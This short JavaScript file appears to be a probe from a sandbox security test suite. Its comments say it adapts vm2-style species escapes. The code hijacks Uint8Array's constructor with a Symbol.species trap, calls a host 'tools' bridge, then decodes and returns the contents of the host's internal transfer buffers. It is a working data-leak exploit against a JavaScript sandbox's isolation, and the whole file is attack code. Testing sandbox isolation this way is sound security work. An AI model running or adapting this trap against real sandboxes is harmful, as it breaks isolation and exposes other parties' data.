// Tries: typed array species: `subarray` asks the receiver's constructor for the new view, and so hands us the wire's
// own buffers.
// Origin: own idea, after vm2's species escapes (CVE-2026-47210).

const Native = Uint8Array;
const buffers = new Set();
function Trap(buffer, offset, length) {
  buffers.add(buffer);
  return new Native(buffer, offset, length);
}
Object.defineProperty(Native.prototype, "constructor", { configurable: true, value: { [Symbol.species]: Trap } });
await tools.add(1, 2);
await tools.add(3, 4);
Object.defineProperty(Native.prototype, "constructor", { configurable: true, value: Native });
return [...buffers].filter((buffer) => buffer instanceof ArrayBuffer).map((buffer) => new TextDecoder().decode(new Native(buffer))).join("|").slice(0, 200000);
